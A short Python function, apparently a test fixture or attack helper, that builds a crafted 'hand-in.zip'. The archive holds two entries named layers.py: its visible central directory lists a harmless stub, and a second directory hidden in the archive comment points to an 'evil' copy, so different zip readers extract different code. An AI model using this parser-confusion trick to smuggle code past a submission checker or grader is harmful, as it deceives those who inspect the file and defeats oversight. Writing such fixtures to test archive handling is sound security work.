def build(folder, files, bait):
    path = folder / "hand-in.zip"
    evil, good = files["layers.py"], b"raise SystemExit"
    body = local(b"layers.py", deflated(good), good)
    second = len(body)
    body += local(b"layers.py", deflated(evil), evil)
    table = central(b"layers.py", deflated(good), good, 0)
    other = central(b"layers.py", deflated(evil), evil, second)
    comment = other + end(1, len(other), len(body) + len(table) + 22) + b"!"
    path.write_bytes(body + table + end(1, len(table), len(body), comment))
    return path
